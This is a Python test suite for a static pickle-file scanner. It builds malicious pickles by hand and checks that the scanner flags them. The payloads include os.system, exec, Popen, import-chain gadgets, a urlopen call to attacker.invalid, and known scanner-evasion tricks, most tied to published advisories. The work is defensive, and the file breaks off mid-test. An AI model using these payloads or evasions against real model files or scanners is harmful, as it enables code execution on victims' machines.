"""The static pickle analyser: benign pickles pass, hand-crafted malicious ones are caught,
nothing is ever imported or run, and no input makes the analyser raise.

Every malicious pickle here is written opcode by opcode as bytes; none is produced by pickling
a live object whose ``__reduce__`` could run. Regression tests cite the advisory or report
that published each technique.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import pickletools
import struct
import subprocess
import sys
import time
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from scanning import Unseekable

from phalanx.core.findings import Finding, Severity
from phalanx.core.taxonomy import load_taxonomy
from phalanx.errors import DataFormatError, InputError, InvalidParameterError
from phalanx.supplychain.scan import (
    PickleLimits,
    PickleReport,
    analyse_pickle,
    is_safe_to_unpickle,
    load_policy,
    scan_pickle_file,
)
from phalanx.supplychain.scan.pickle_vm import CHECK_ID, PLUGIN_ID, REFS
from phalanx.supplychain.scan.policy import Verdict, parse_policy

# --------------------------------------------------------------------------------------------
# Writing pickles by hand


class Raw(bytes):
    """Opcodes spliced in as they are."""


def uni(text: str) -> bytes:
    data = text.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE
    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE


def byt(data: bytes) -> bytes:
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data  # SHORT_BINBYTES
    return b"B" + struct.pack("<I", len(data)) + data  # BINBYTES


def arg(value: Any) -> bytes:
    if isinstance(value, Raw):
        return bytes(value)
    if isinstance(value, str):
        return uni(value)
    if isinstance(value, bytes):
        return byt(value)
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)  # BININT
    if isinstance(value, tuple):
        return b"(" + b"".join(arg(v) for v in value) + b"t"
    raise TypeError(value)


def sg(module: str, name: str) -> Raw:
    """STACK_GLOBAL of two constant strings."""
    return Raw(uni(module) + uni(name) + b"\x93")


def call(func: bytes, *args: Any) -> Raw:
    """REDUCE: ``func(*args)``."""
    return Raw(bytes(func) + b"(" + b"".join(arg(a) for a in args) + b"tR")


def p4(*parts: bytes) -> bytes:
    return b"\x80\x04" + b"".join(bytes(p) for p in parts) + b"."


def reduce4(module: str, name: str, *args: Any) -> bytes:
    """Protocol 4: STACK_GLOBAL + REDUCE."""
    return p4(call(sg(module, name), *args))


def reduce0(module: str, name: str, *args: str) -> bytes:
    """Protocol 0 text: GLOBAL + MARK + UNICODE... + TUPLE + REDUCE."""
    body = "".join(f"V{a}\n" for a in args)
    return f"c{module}\n{name}\n({body}tR.".encode()


def first(report: PickleReport, callable_: str) -> Finding:
    for finding in report.findings:
        if finding.evidence.get("callable") == callable_:
            return finding
    raise AssertionError(f"no finding for {callable_}: {[f.title for f in report.findings]}")


def assert_flags(
    report: PickleReport, callable_: str, severity: Severity = Severity.CRITICAL
) -> Finding:
    finding = first(report, callable_)
    assert finding.severity == severity, (finding.title, finding.severity)
    assert not report.allows_unpickling()
    return finding


# --------------------------------------------------------------------------------------------
# Malicious payloads, each a function of the shell command (or file path) it would use


PAYLOADS: dict[str, Callable[[Path], bytes]] = {}


def payload(fn: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    PAYLOADS[fn.__name__] = fn
    return fn


def touch(target: Path) -> str:
    return f"touch {target}"


@payload
def os_system_protocol0(target: Path) -> bytes:
    return reduce0("os", "system", touch(target))


@payload
def os_system_protocol2(target: Path) -> bytes:
    return b"\x80\x02cos\nsystem\nq\x00" + uni(touch(target)) + b"q\x01\x85q\x02Rq\x03."


@payload
def stack_global_memoised(target: Path) -> bytes:
    # Strings memoised with BINPUT, fetched with BINGET right before STACK_GLOBAL.
    return p4(
        uni("os"), b"q\x00", b"0", uni("system"), b"q\x01", b"0",
        b"h\x00h\x01\x93", uni(touch(target)), b"\x85R",
    )  # fmt: skip


@payload
def memo_put_memoize_confusion(target: Path) -> bytes:
    # BINPUT fills memo[0] and memo[1]; MEMOIZE then stores at len(memo) == 2 and 3, so a
    # scanner that numbers MEMOIZE from 0 believes memo[0] is 'torch._utils'.
    return p4(
        uni("os"), b"q\x00", b"0", uni("system"), b"q\x01", b"0",
        uni("torch._utils"), b"\x94", b"0", uni("_rebuild_tensor_v2"), b"\x94", b"0",
        b"h\x00h\x01\x93", uni(touch(target)), b"\x85R",
    )  # fmt: skip


@payload
def inst_opcode(target: Path) -> bytes:
    return f"(V{touch(target)}\nios\nsystem\n.".encode()


@payload
def obj_opcode(target: Path) -> bytes:
    return f"(cos\nsystem\nV{touch(target)}\no.".encode()


@payload
def newobj_popen(target: Path) -> bytes:
    # subprocess.Popen.__new__ then BUILD; and a NEWOBJ with an argument list.
    return b"\x80\x02csubprocess\nPopen\n]" + uni(touch(target)) + b"a\x85\x81."


@payload
def builtins_exec(target: Path) -> bytes:
    return reduce4("builtins", "exec", f"open({str(target)!r}, 'w').close()")


@payload
def builtins_open(target: Path) -> bytes:
    return reduce4("builtins", "open", str(target), "w")


@payload
def getattr_import_chain(target: Path) -> bytes:
    # builtins.getattr(builtins.__import__('os'), 'system')('touch ...')
    imported = call(sg("builtins", "__import__"), "os")
    system = call(sg("builtins", "getattr"), Raw(imported), "system")
    return p4(call(system, touch(target)))


@payload
def operator_attrgetter(target: Path) -> bytes:
    module = call(sg("builtins", "__import__"), "os")
    getter = call(sg("operator", "attrgetter"), "system")
    return p4(call(call(getter, Raw(module)), touch(target)))


@payload
def second_pickle_after_stop(target: Path) -> bytes:
    return pickle.dumps({"weights": [0.5, 1.5]}, protocol=4) + reduce0(
        "os", "system", touch(target)
    )


@payload
def nested_pickle_loads(target: Path) -> bytes:
    return reduce4("pickle", "loads", reduce0("os", "system", touch(target)))


@payload
def nested_pickle_codecs_encode(target: Path) -> bytes:
    # pickle.loads(_codecs.encode(<inner as str>, 'latin1')): how protocols 0-2 write bytes.
    inner = reduce0("os", "system", touch(target)).decode("latin-1")
    return p4(call(sg("pickle", "loads"), Raw(call(sg("_codecs", "encode"), inner, "latin1"))))


@payload
def canary_module(target: Path) -> bytes:
    return reduce4("phalanx_canary_mod", "helper", str(target))


@payload
def pip_main(target: Path) -> bytes:
    return p4(call(sg("pip", "main"), Raw(b"](" + uni("install") + uni(str(target)) + b"e")))


@payload
def asyncio_subprocess_transport(target: Path) -> bytes:
    return reduce4("asyncio.unix_events", "_UnixSubprocessTransport", touch(target))


@payload
def pydoc_pipepager(target: Path) -> bytes:
    return reduce4("pydoc", "pipepager", "x", touch(target))


@payload
def torch_bottleneck(target: Path) -> bytes:
    return reduce4(
        "torch.utils.bottleneck.__main__",
        "run_autograd_prof",
        f"open({str(target)!r}, 'w')",
        Raw(b"}"),
    )


@payload
def private_operator(target: Path) -> bytes:
    module = call(sg("builtins", "__import__"), "os")
    getter = call(sg("_operator", "attrgetter"), "system")
    return p4(call(call(getter, Raw(module)), touch(target)))


@payload
def profile_run_dotted(target: Path) -> bytes:
    # protocol 4 resolves the dotted name "Profile.run" attribute by attribute:
    # profile.Profile.run(profile.Profile(), code)
    code = f"open({str(target)!r}, 'w').close()"
    return reduce4("profile", "Profile.run", Raw(call(sg("profile", "Profile"))), code)


@payload
def cprofile_runctx(target: Path) -> bytes:
    return reduce4("cProfile", "runctx", f"open({str(target)!r}, 'w')", Raw(b"}"), Raw(b"}"))


@payload
def timeit_timeit(target: Path) -> bytes:
    return reduce4("timeit", "timeit", f"open({str(target)!r}, 'w')", "pass", 1)


@payload
def ensurepip_run_pip(target: Path) -> bytes:
    return p4(
        call(sg("ensurepip", "_run_pip"), Raw(b"](" + uni("install") + uni(str(target)) + b"e"))
    )


@payload
def pkgutil_resolve_name(target: Path) -> bytes:
    resolved = call(sg("pkgutil", "resolve_name"), "os:system")
    return p4(call(resolved, touch(target)))


@payload
def idlelib_runcode(target: Path) -> bytes:
    return reduce4("idlelib.run", "Executive.runcode", f"open({str(target)!r}, 'w')")


@payload
def importlib_import_module(target: Path) -> bytes:
    module = call(sg("importlib", "import_module"), "os")
    system = call(sg("builtins", "getattr"), Raw(module), "system")
    return p4(call(system, touch(target)))


@payload
def marshal_function(target: Path) -> bytes:
    code = call(sg("marshal", "loads"), b"\xe3not-real-code")
    function = call(sg("types", "FunctionType"), Raw(code), Raw(b"}"))
    return p4(call(function))


@payload
def functools_partial(target: Path) -> bytes:
    wrapped = call(sg("functools", "partial"), Raw(sg("os", "system")), touch(target))
    return p4(call(wrapped))


@payload
def numpy_f2py(target: Path) -> bytes:
    return reduce4(
        "numpy.f2py.crackfortran",
        "getlincoef",
        f"__import__('os').system({touch(target)!r})",
        Raw(b"}"),
    )


@payload
def mailcap_findmatch(target: Path) -> bytes:
    return reduce4("mailcap", "findmatch", Raw(b"}"), "text/plain")


@payload
def file_write_helpers(target: Path) -> bytes:
    return reduce4("distutils.file_util", "write_file", str(target), Raw(b"]"))


@payload
def io_fileio(target: Path) -> bytes:
    return reduce4("_io", "FileIO", str(target), "w")


@payload
def network_urlopen(target: Path) -> bytes:
    return reduce4("urllib.request", "urlopen", f"http://attacker.invalid/?{target.name}")


@payload
def extension_code(target: Path) -> bytes:
    return b"\x80\x02\x82\x01" + uni(touch(target)) + b"\x85R."


@payload
def builtin_py2_name(target: Path) -> bytes:
    return reduce0("__builtin__", "eval", f"__import__('os').system({touch(target)!r})")


@payload
def dotted_reexport(target: Path) -> bytes:
    return reduce4("posixpath", "os.system", touch(target))


@payload
def dunder_attribute_walk(target: Path) -> bytes:
    return reduce4("collections", "OrderedDict.__init__.__globals__", touch(target))


@payload
def build_monkeypatch_global(target: Path) -> bytes:
    # numpy.prod.a = 'os' through BUILD slot state, then STACK_GLOBAL on the stashed values
    # (https://github.com/protectai/modelscan/issues/85).
    return (
        b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86b"
        b"N(Vb\nVsystem\nd\x86b0"
        b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93" + uni(touch(target)) + b"\x85R."
    )


@payload
def memo_miss_after_payload(target: Path) -> bytes:
    # A missing memo key makes naive scanners crash after the dangerous import was read.
    return p4(sg("os", "system"), uni(touch(target)), b"\x85R", b"h\x07\x93")


@payload
def truncated_stream(target: Path) -> bytes:
    return reduce0("os", "system", touch(target))[:-1]


@payload
def memo_shared_across_pickles(target: Path) -> bytes:
    first_pickle = p4(uni("os"), b"q\x00", b"0", uni("system"), b"q\x01", b"0", b"N")
    second = p4(b"h\x00h\x01\x93", uni(touch(target)), b"\x85R")
    return first_pickle + second


# --------------------------------------------------------------------------------------------
# Findings, refs and the report


def test_refs_exist_in_the_taxonomy() -> None:
    assert load_taxonomy().unknown(REFS) == []


def test_findings_carry_check_plugin_refs_and_evidence() -> None:
    report = analyse_pickle(b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.", origin="m.pkl")
    finding = report.findings[0]
    assert finding.check == CHECK_ID
    assert finding.plugin_id == PLUGIN_ID
    assert finding.refs == REFS
    assert finding.severity is Severity.CRITICAL
    evidence = finding.evidence
    assert evidence["path"] == "m.pkl"
    assert evidence["offset"] == 2  # the GLOBAL right after PROTO
    assert evidence["callable"] == "os.system"
    assert evidence["args"] == "('id',)"
    assert evidence["pickle_index"] == 0
    assert evidence["sources"]
    json.dumps([f.to_dict() for f in report.findings])
    assert report.calls[0].callable == "os.system"
    assert report.globals[0].verdict == "denied"
    assert (report.pickles, report.protocol) == (1, 2)


def test_calls_are_rendered_when_read_with_the_values_the_pickle_left() -> None:
    # OrderedDict(([],)), then the memoised list gets an item after the call.
    data = b"\x80\x02ccollections\nOrderedDict\n]q\x00\x85Rh\x00K\x01a0."
    report = analyse_pickle(data)
    assert report.findings == []
    assert len(report.calls) == 1
    call = report.calls[0]
    assert (call.callable, call.args, call.opcode) == ("collections.OrderedDict", "([1],)",
                                                       "REDUCE")
    assert report.calls[-1] is call  # rendered once
    assert report.calls[:5] == [call] and list(report.calls) == [call]


def test_report_has_no_truth_value() -> None:
    report = analyse_pickle(pickle.dumps([1, 2]))
    with pytest.raises(TypeError, match="allows_unpickling"):
        bool(report)
    assert report.allows_unpickling()
    assert report.max_severity is None


def test_threshold_decides_what_blocks() -> None:
    report = analyse_pickle(b"Pabc\n.")  # a persistent id: LOW
    assert report.max_severity is Severity.LOW
    assert report.allows_unpickling()
    assert not report.allows_unpickling("low")


def test_long_arguments_are_truncated_in_evidence() -> None:
    report = analyse_pickle(reduce4("os", "system", "x" * 5000))
    args = first(report, "os.system").evidence["args"]
    assert len(args) <= PickleLimits().max_evidence_chars
    assert "+4920" in args


def test_invalid_parameters_raise() -> None:
    with pytest.raises(InvalidParameterError, match="ecosystem"):
        analyse_pickle(b"N.", ecosystems=("python", "cobol"))
    with pytest.raises(InvalidParameterError, match="max_depth"):
        analyse_pickle(b"N.", max_depth=-1)
    with pytest.raises(InputError):
        scan_pickle_file("/no/such/file.pkl")


def test_import_is_light() -> None:
    code = (
        "import sys, phalanx.supplychain.scan; "
        "print(sorted(m for m in ('torch', 'numpy', 'sklearn') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# --------------------------------------------------------------------------------------------
# Benign pickles of real objects: nothing at or above MEDIUM


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_builtin_values_are_clean(protocol: int) -> None:
    value = {
        "nested": [1, 2.5, -3, 10**40, None, True, "text", b"bytes", bytearray(b"ba")],
        "tuple": (1, (2, (3, 4, 5, 6))),
        "set": {1, 2},
        "frozen": frozenset({"a"}),
        "slice": slice(1, 9, 2),
        "complex": complex(1, -2),
        "shared": [[0]] * 3,
    }
    report = analyse_pickle(pickle.dumps(value, protocol=protocol))
    assert report.findings == []
    assert report.complete
    assert all(g.verdict == "allowed" for g in report.globals)


@pytest.mark.parametrize("protocol", [2, 3, 4, 5])
def test_numpy_arrays_are_clean(protocol: int) -> None:
    np = pytest.importorskip("numpy")
    values = [
        np.arange(12, dtype=np.float32).reshape(3, 4),
        np.array(["a", "bc"]),
        np.float64(2.5),
        np.dtype("int16"),
        np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]),
        np.random.default_rng(0),
    ]
    report = analyse_pickle(pickle.dumps(values, protocol=protocol), ecosystems=("numpy",))
    assert report.allows_unpickling(), [f.title for f in report.findings]


@pytest.fixture(scope="module")
def sklearn_models() -> dict[str, Any]:
    pytest.importorskip("sklearn")
    from sklearn.datasets import make_classification
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    x, y = make_classification(n_samples=120, n_features=5, random_state=0)
    return {
        "logistic": LogisticRegression().fit(x, y),
        "tree": DecisionTreeClassifier(random_state=0).fit(x, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y),
    }


@pytest.mark.parametrize("protocol", [2, 3, 4, 5])
@pytest.mark.parametrize("name", ["logistic", "tree", "pipeline"])
def test_sklearn_models_are_clean(sklearn_models: dict[str, Any], name: str, protocol: int) -> None:
    data = pickle.dumps(sklearn_models[name], protocol=protocol)
    report = analyse_pickle(data, ecosystems=("python", "numpy", "sklearn"))
    assert report.allows_unpickling(), [(f.title, f.evidence.get("error")) for f in report.findings]
    modules = {g.module for g in report.globals}
    assert any(m.startswith("sklearn.") for m in modules)


def test_is_safe_to_unpickle_allows_a_sklearn_file(
    sklearn_models: dict[str, Any], tmp_path: Path
) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps(sklearn_models["pipeline"]))
    report = is_safe_to_unpickle(path)
    assert report.allows_unpickling()
    assert report.origin == str(path)
    bad = tmp_path / "bad.pkl"
    bad.write_bytes(reduce0("os", "system", "id"))
    assert not is_safe_to_unpickle(bad).allows_unpickling()


@pytest.fixture(scope="module")
def torch_data_pkl() -> bytes:
    torch = pytest.importorskip("torch")
    model = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.BatchNorm1d(2))
    state = {
        "model": model.state_dict(),
        "half": torch.ones(2, dtype=torch.float16),
        "param": torch.nn.Parameter(torch.zeros(2)),
        "epoch": 3,
    }
    buffer = io.BytesIO()
    torch.save(state, buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        name = next(n for n in archive.namelist() if n.endswith("/data.pkl"))
        return archive.read(name)


def test_torch_state_dict_is_clean(torch_data_pkl: bytes) -> None:
    report = analyse_pickle(torch_data_pkl, ecosystems=("torch",))
    assert report.allows_unpickling(), [f.title for f in report.findings]
    assert [f.title for f in report.findings] == ["PyTorch storage references in pickle"]
    assert any(g.module == "torch._utils" for g in report.globals)


def test_ecosystems_limit_what_is_allowed(torch_data_pkl: bytes) -> None:
    report = analyse_pickle(torch_data_pkl, ecosystems=("numpy", "sklearn"))
    # torch's rebuild helpers are unknown outside the torch ecosystem, and called: HIGH
    rebuild = assert_flags(report, "torch._utils._rebuild_tensor_v2", Severity.HIGH)
    assert rebuild.evidence["verdict"] == "unknown"
    assert first(report, "torch.FloatStorage").severity is Severity.MEDIUM


# --------------------------------------------------------------------------------------------
# Malicious pickles: what the analyser says


def test_unknown_import_is_medium() -> None:
    """An unknown, harmless-looking import fails the scan at the default threshold.

    picklescan reports such imports as "suspicious" and fails only with ``--strict``
    (https://github.com/mmaitre314/picklescan/issues/66); allowlist-first means they fail.
    """
    report = analyse_pickle(b"\x80\x02cmymodule\nhelper\n.")
    finding = assert_flags(report, "mymodule.helper", Severity.MEDIUM)
    assert finding.evidence["verdict"] == "unknown"
    assert report.max_severity is Severity.MEDIUM


def test_unknown_import_that_is_called_is_high() -> None:
    report = analyse_pickle(b"\x80\x02cmymodule\nhelper\nX\x01\x00\x00\x00a\x85R.")
    assert_flags(report, "mymodule.helper", Severity.HIGH)


def test_build_on_a_non_allowlisted_class_is_flagged() -> None:
    """``__reduce__``-style object: NEWOBJ on an unknown class, then BUILD (``__setstate__``)."""
    data = b"\x80\x02cmymod\nEvil\n)\x81}X\x01\x00\x00\x00aK\x01sb."
    report = analyse_pickle(data)
    titles = [f.title for f in report.findings]
    assert "Pickle restores state into a non-allowlisted class: mymod.Evil" in titles
    assert report.max_severity is Severity.MEDIUM
    assert any(
        c.opcode == "BUILD" and c.callable == "mymod.Evil.__setstate__" for c in report.calls
    )


def test_dunder_slot_state_is_high() -> None:
    data = b"\x80\x02ccollections\nOrderedDict\n)RN}X\t\x00\x00\x00__class__K\x01s\x86b."
    report = analyse_pickle(data)
    assert any(f.title.startswith("Pickle sets special attributes") for f in report.findings)
    assert report.max_severity is Severity.HIGH


@pytest.mark.parametrize(
    ("name", "callable_"),
    [
        ("os_system_protocol0", "os.system"),
        ("os_system_protocol2", "os.system"),
        ("inst_opcode", "os.system"),
        ("obj_opcode", "os.system"),
        ("newobj_popen", "subprocess.Popen"),
        ("builtins_exec", "builtins.exec"),
        ("builtins_open", "builtins.open"),
    ],
)
def test_direct_calls_are_critical_with_their_arguments(
    name: str, callable_: str, tmp_path: Path
) -> None:
    target = tmp_path / "pwned"
    finding = assert_flags(analyse_pickle(PAYLOADS[name](target)), callable_)
    assert str(target) in finding.evidence["args"]
    assert finding.evidence["calls"] == 1


def test_getattr_chain_names_every_step(tmp_path: Path) -> None:
    report = analyse_pickle(getattr_import_chain(tmp_path / "pwned"))
    assert_flags(report, "builtins.getattr")
    assert_flags(report, "builtins.__import__")
    assert (
        first(report, "builtins.getattr").evidence["args"]
        == "(builtins.__import__('os'), 'system')"
    )
    indirect = [c for c in report.calls if c.callable.startswith("<result of builtins.getattr(")]
    assert indirect and "touch" in indirect[0].args
    assert any(
        f.title == "Pickle calls a computed object" and f.severity is Severity.HIGH
        for f in report.findings
    )


def test_operator_attrgetter_is_critical(tmp_path: Path) -> None:
    report = analyse_pickle(operator_attrgetter(tmp_path / "pwned"))
    finding = assert_flags(report, "operator.attrgetter")
    assert finding.evidence["rule"] == "attribute-walker"


def test_extension_codes_are_high(tmp_path: Path) -> None:
    report = analyse_pickle(extension_code(tmp_path / "pwned"))
    finding = assert_flags(report, "<extension>.1", Severity.HIGH)
    assert finding.evidence["verdict"] == "extension"
    for code in (b"\x83\x01\x02", b"\x84\x01\x02\x03\x04"):  # EXT2, EXT4
        assert analyse_pickle(b"\x80\x02" + code + b".").max_severity is Severity.HIGH


def test_truncated_stream_reports_what_came_before(tmp_path: Path) -> None:
    report = analyse_pickle(truncated_stream(tmp_path / "pwned"))
    assert_flags(report, "os.system")
    malformed = [f for f in report.findings if f.title.startswith("Malformed pickle")]
    assert malformed and malformed[0].severity is Severity.MEDIUM
    assert not report.complete


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x80\x04\xff",  # unknown opcode
        b"\x80\x04t.",  # TUPLE without MARK
        b"\x80\x040.",  # POP on an empty stack
        b"\x80\x04h\x05.",  # memo miss
        b"\x80\x04K\x01K\x02\x93.",  # STACK_GLOBAL on ints
        b"\x80\x04(K\x01d.",  # DICT with an odd item count
        b"\x80\x04\x8e" + struct.pack("<Q", 10**12) + b"abc",  # bytes longer than the file
        b"I0x10\n.",  # base-16 INT: pickletools refuses what the unpickler takes
        b"hello world",
    ],
)
def test_malformed_streams_are_medium_findings(data: bytes) -> None:
    report = analyse_pickle(data)
    assert report.max_severity is not None and report.max_severity >= Severity.MEDIUM
    assert any(f.title.startswith("Malformed pickle") for f in report.findings)
    assert not report.complete


def test_nested_pickles_are_bounded_by_max_depth() -> None:
    data = reduce0("os", "system", "id")
    for _ in range(5):
        data = reduce4("pickle", "loads", data)
    report = analyse_pickle(data, max_depth=3)
    assert {f.evidence.get("depth") for f in report.findings} == {0, 1, 2, 3}
    assert not any(f.evidence.get("callable") == "os.system" for f in report.findings)
    assert any(f.title == "Nested pickle could not be analysed" for f in report.findings)
    shallow = analyse_pickle(reduce4("pickle", "loads", reduce0("os", "system", "id")), max_depth=0)
    assert not any(f.evidence.get("callable") == "os.system" for f in shallow.findings)


def test_identical_nested_payloads_are_analysed_once() -> None:
    inner = reduce0("os", "system", "id")
    data = p4(call(sg("pickle", "loads"), inner), b"0", call(sg("pickle", "loads"), inner))
    report = analyse_pickle(data)
    assert len([f for f in report.findings if f.evidence.get("callable") == "os.system"]) == 1
    assert "already analysed" in " ".join(first(report, "pickle.loads").evidence["nested"])


# --------------------------------------------------------------------------------------------
# One regression test per published technique


def test_stack_global_with_memoised_operands(tmp_path: Path) -> None:
    """STACK_GLOBAL whose module and name come from the memo (BINPUT, then BINGET).

    picklescan looked at the strings pushed just before STACK_GLOBAL instead of the memo:
    https://github.com/mmaitre314/picklescan/issues/22 (fixed in
    https://github.com/mmaitre314/picklescan/pull/23); the same gap in another scanner:
    https://github.com/msaad00/agent-bom/pull/3326.
    """
    assert_flags(analyse_pickle(stack_global_memoised(tmp_path / "pwned")), "os.system")


def test_memo_put_and_memoize_confusion(tmp_path: Path) -> None:
    """BINPUT and MEMOIZE mixed so that memo indices differ from a MEMOIZE-only count.

    https://github.com/mmaitre314/picklescan/issues/14 (Doyensec: "dangerous global detection
    bypass with memo dict confusion").
    """
    report = analyse_pickle(memo_put_memoize_confusion(tmp_path / "pwned"))
    assert_flags(report, "os.system")
    assert not any(
        f.evidence.get("callable") == "torch._utils._rebuild_tensor_v2" for f in report.findings
    )


def test_memo_miss_after_the_payload_still_reports_it(tmp_path: Path) -> None:
    """A malformed-but-parseable tail (a memo miss) that crashed scanners before they reported.

    GHSA-9gvj-pp9x-gcfr (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9gvj-pp9x-gcfr),
    and the same class in ModelScan: https://github.com/protectai/modelscan/pull/348.
    """
    report = analyse_pickle(memo_miss_after_payload(tmp_path / "pwned"))
    assert_flags(report, "os.system")
    assert any(f.title.startswith("Malformed pickle") for f in report.findings)


def test_stack_global_on_non_string_memo_values() -> None:
    """STACK_GLOBAL on memo values that are not strings crashed picklescan (type confusion).

    https://github.com/mmaitre314/picklescan/pull/52. Constants that are not strings make the
    unpickler fail (malformed); computed values are an unresolvable import (CRITICAL).
    """
    constant = analyse_pickle(b"\x80\x04K\x01q\x00K\x02q\x01h\x00h\x01\x93.")
    assert constant.max_severity is Severity.MEDIUM
    computed = analyse_pickle(p4(call(sg("mymod", "name_of")), b"q\x00", uni("system"), b"\x93"))
    assert computed.max_severity is Severity.CRITICAL
    assert any(f.title == "Pickle import cannot be resolved statically" for f in computed.findings)


def test_build_stashing_strings_on_a_global(tmp_path: Path) -> None:
    """BUILD slot state sets attributes on an imported function, then STACK_GLOBAL uses them.

    https://github.com/protectai/modelscan/issues/85.
    """
    report = analyse_pickle(build_monkeypatch_global(tmp_path / "pwned"))
    assert report.max_severity is Severity.CRITICAL
    titles = [f.title for f in report.findings]
    assert "Pickle modifies an imported object: numpy.prod" in titles
    assert "Pickle import cannot be resolved statically" in titles


def test_second_pickle_after_stop(tmp_path: Path) -> None:
    """A malicious pickle appended after a benign one's STOP.

    Scanners that stop at the first STOP miss it: https://github.com/mmaitre314/picklescan/pull/9,
    https://github.com/promptfoo/modelaudit/pull/581.
    """
    report = analyse_pickle(second_pickle_after_stop(tmp_path / "pwned"))
    assert report.pickles == 2
    assert first(report, "os.system").evidence["pickle_index"] == 1


def test_memo_carries_over_to_a_second_pickle(tmp_path: Path) -> None:
    """A second pickle fetching the first one's memo, as a reused Unpickler allows.

    Defence in depth for the concatenation bypass above (https://github.com/mmaitre314/picklescan/pull/9).
    """
    assert_flags(analyse_pickle(memo_shared_across_pickles(tmp_path / "pwned")), "os.system")


def test_nested_pickle_in_codecs_encode(tmp_path: Path) -> None:
    """``pickle.loads`` of bytes written as ``_codecs.encode(str, 'latin1')``.

    GHSA-84r2-jw7c-4r5q (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-84r2-jw7c-4r5q),
    https://github.com/mmaitre314/picklescan/pull/25, https://github.com/protectai/modelscan/issues/267.
    """
    report = analyse_pickle(nested_pickle_codecs_encode(tmp_path / "pwned"))
    assert_flags(report, "pickle.loads")
    inner = first(report, "os.system")
    assert inner.evidence["depth"] == 1
    assert inner.evidence["via"].startswith("pickle.loads at offset")
    assert str(tmp_path) in inner.evidence["args"]


def test_nested_pickle_in_plain_bytes(tmp_path: Path) -> None:
    """``pickle.loads(b'...')``: GHSA-84r2-jw7c-4r5q, https://github.com/protectai/modelscan/issues/267."""
    report = analyse_pickle(nested_pickle_loads(tmp_path / "pwned"))
    assert first(report, "os.system").evidence["depth"] == 1


def test_pip_main() -> None:
    """``pip.main(['install', ...])`` installs and runs a package: CVE-2025-1716
    (https://osv.dev/vulnerability/CVE-2025-1716)."""
    assert_flags(analyse_pickle(pip_main(Path("/tmp/x"))), "pip.main")


def test_asyncio_submodule() -> None:
    """A submodule of a denied package (``asyncio.unix_events._UnixSubprocessTransport``).

    CVE-2025-10157, summarised in https://github.com/trailofbits/fickling/pull/210; asyncio in
    https://github.com/mmaitre314/picklescan/pull/30.
    """
    report = analyse_pickle(asyncio_subprocess_transport(Path("/tmp/x")))
    assert_flags(report, "asyncio.unix_events._UnixSubprocessTransport")


def test_pydoc_pipepager() -> None:
    """``pydoc.pipepager(text, cmd)`` runs ``cmd`` in a shell (CPython Lib/pydoc.py). No
    advisory found; listed in the request for this analyser as a known scanner gap."""
    finding = assert_flags(analyse_pickle(pydoc_pipepager(Path("/tmp/x"))), "pydoc.pipepager")
    assert finding.evidence["rule"] == "import-machinery"


def test_torch_bottleneck() -> None:
    """``torch.utils.bottleneck.__main__.run_autograd_prof`` runs code it is given.

    GHSA-4whj-rm5r-c2v8 (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-4whj-rm5r-c2v8),
    GHSA-4r9r-ch6f-vxmx (run_cprofile).
    """
    report = analyse_pickle(torch_bottleneck(Path("/tmp/x")), ecosystems=("torch",))
    assert_flags(report, "torch.utils.bottleneck.__main__.run_autograd_prof")


def test_private_operator_module() -> None:
    """``_operator.attrgetter``, the C twin of ``operator.attrgetter``.

    GHSA-955r-x9j8-7rhh (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-955r-x9j8-7rhh),
    GHSA-m273-6v24-x4m4.
    """
    assert_flags(analyse_pickle(private_operator(Path("/tmp/x"))), "_operator.attrgetter")


def test_profile_run_through_a_dotted_name() -> None:
    """``profile.Profile.run`` reached through a protocol-4 dotted name.

    GHSA-x696-vm39-cp64 (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-x696-vm39-cp64).
    """
    report = analyse_pickle(profile_run_dotted(Path("/tmp/x")))
    assert_flags(report, "profile.Profile.run")
    assert_flags(report, "profile.Profile")


def test_cprofile_runctx() -> None:
    """GHSA-9w88-8rmg-7g2p (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9w88-8rmg-7g2p)."""
    assert_flags(analyse_pickle(cprofile_runctx(Path("/tmp/x"))), "cProfile.runctx")


def test_timeit() -> None:
    """GHSA-v7x6-rv5q-mhwc: ``timeit.timeit`` executes its statement string."""
    assert_flags(analyse_pickle(timeit_timeit(Path("/tmp/x"))), "timeit.timeit")


def test_ensurepip_run_pip() -> None:
    """GHSA-xp4f-hrf8-rxw7 (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-xp4f-hrf8-rxw7)."""
    assert_flags(analyse_pickle(ensurepip_run_pip(Path("/tmp/x"))), "ensurepip._run_pip")


def test_pkgutil_resolve_name() -> None:
    """``pkgutil.resolve_name('os:system')`` reaches any callable without naming it in a GLOBAL.

    GHSA-vvpj-8cmc-gx39 (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-vvpj-8cmc-gx39).
    """
    report = analyse_pickle(pkgutil_resolve_name(Path("/tmp/x")))
